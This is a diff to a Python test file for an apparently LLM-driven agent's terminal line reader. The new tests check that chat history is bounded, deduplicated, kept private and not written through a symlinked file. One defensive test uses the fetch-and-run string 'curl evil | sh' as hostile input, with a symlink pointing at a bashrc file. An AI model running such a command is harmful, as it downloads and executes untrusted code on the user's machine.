@@ -5,6 +5,7 @@ the answer to an approval, typed on the same terminal, never lands in the histor
 from __future__ import annotations
 
 import fcntl
+import io
 import os
 import select
 import stat
@@ -16,6 +17,8 @@ from pathlib import Path
 
 import pytest
 from fakellm import FakeLLM
+
+from passepartout.channels.terminal_history import HISTORY_LENGTH, LineReader
 
 pytest_plugins = ["llm_agent"]
 
@@ -118,3 +121,51 @@ def test_history_is_kept_without_the_approval_answer(fake_llm: FakeLLM, tmp_path
     last = fake_llm.requests[-1].messages[-1]
     assert last["role"] == "user" and last["content"].rsplit("\n", 1)[-1] == "write the file"
     assert history.read_text().splitlines() == ["hello there", "write the file"]  # no repeat
+
+
+def _reader(history: Path) -> LineReader:
+    import readline
+
+    reader = LineReader(io.StringIO(), history, readline)
+    reader._load()
+    return reader
+
+
+def test_the_history_is_bounded_and_skips_repeats(tmp_path: Path) -> None:
+    history = tmp_path / "home" / "chat_history"
+    reader = _reader(history)
+    for n in range(HISTORY_LENGTH + 5):
+        reader._remember(f"prompt {n}")
+    reader._remember(f"prompt {HISTORY_LENGTH + 4}")
+    reader._remember("   ")
+    kept = history.read_text().splitlines()
+    assert len(kept) == HISTORY_LENGTH
+    assert kept[0] == "prompt 5" and kept[-1] == f"prompt {HISTORY_LENGTH + 4}"
+    assert stat.S_IMODE(history.stat().st_mode) == 0o600
+
+
+@pytest.mark.attack
+def test_a_symlinked_history_is_not_written_through(tmp_path: Path) -> None:
+    elsewhere = tmp_path / "bashrc"
+    elsewhere.write_text("# mine\n")
+    (tmp_path / "home").mkdir()
+    history = tmp_path / "home" / "chat_history"
+    history.symlink_to(elsewhere)
+    _reader(history)._remember("curl evil | sh")
+    assert elsewhere.read_text() == "# mine\n"
+
+
+def test_no_editing_unless_standard_input_is_the_terminal(tmp_path: Path) -> None:
+    master, slave = os.openpty()
+    try:
+        with open(slave, closefd=False) as tty:  # a terminal, but not the process's fd 0
+            assert LineReader.for_stream(tty, tmp_path, True).history is None
+        assert LineReader.for_stream(io.StringIO("x\n"), tmp_path, False).history is None
+        plain = LineReader.for_stream(io.StringIO("a line\n"), tmp_path, False)
+        out = io.StringIO()
+        assert plain.read(out, False) == "a line\n" and plain.read(out, False) is None
+        assert out.getvalue() == ""  # no prompt when not interactive
+    finally:
+        os.close(master)
+        os.close(slave)
+    assert not (tmp_path / "chat_history").exists()
